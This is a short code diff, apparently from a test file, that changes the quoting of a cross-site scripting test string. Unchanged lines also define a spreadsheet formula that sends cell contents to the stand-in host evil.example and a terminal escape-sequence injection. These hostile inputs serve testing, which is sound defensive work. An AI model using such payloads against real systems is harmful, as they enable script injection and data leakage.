@@ -13,7 +13,7 @@ from resources.notification import Notice, notify
 
 from ..pipelines.sandbox import KEY, Sandbox, orders
 
-SCRIPT = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
+SCRIPT = "<img src=x onerror='alert(1)'><script>alert(2)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 ESCAPE = "\x1b]0;owned\x07\x1b[31m"
 
